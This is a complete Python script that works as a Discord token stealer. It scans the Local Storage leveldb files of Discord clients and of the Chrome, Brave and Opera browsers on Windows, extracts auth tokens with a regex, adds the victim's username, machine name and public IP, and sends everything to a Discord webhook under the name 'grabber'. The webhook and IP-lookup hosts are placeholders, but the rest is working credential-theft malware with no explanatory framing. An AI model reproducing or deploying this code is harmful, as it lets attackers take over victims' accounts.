import json
import os
import re
import urllib.request

WEBHOOK = "https://discord.webhook.invalid/api/webhooks/000000000000000000/FAKE-webhook-token"

local = os.getenv("LOCALAPPDATA", "")
roaming = os.getenv("APPDATA", "")
PATHS = {
    "Discord": os.path.join(roaming, "discord"),
    "Discord Canary": os.path.join(roaming, "discordcanary"),
    "Discord PTB": os.path.join(roaming, "discordptb"),
    "Chrome": os.path.join(local, "Google", "Chrome", "User Data", "Default"),
    "Brave": os.path.join(local, "BraveSoftware", "Brave-Browser", "User Data", "Default"),
    "Opera": os.path.join(roaming, "Opera Software", "Opera Stable"),
}
TOKEN_RE = re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}")


def find_tokens(path):
    path = os.path.join(path, "Local Storage", "leveldb")
    found = []
    if not os.path.isdir(path):
        return found
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        try:
            with open(os.path.join(path, name), errors="ignore") as f:
                for line in f:
                    found.extend(TOKEN_RE.findall(line))
        except OSError:
            pass
    return found


def main():
    ip = "unknown"
    try:
        ip = urllib.request.urlopen("https://ipinfo.example/ip", timeout=5).read().decode()
    except Exception:
        pass
    msg = f"**{os.getenv('USERNAME')}@{os.getenv('COMPUTERNAME')}** ip={ip}\n"
    for app, p in PATHS.items():
        toks = sorted(set(find_tokens(p)))
        if toks:
            msg += f"__{app}__\n```" + "\n".join(toks) + "```\n"
    body = json.dumps({"content": msg, "username": "grabber"}).encode()
    req = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except Exception:
        pass


main()
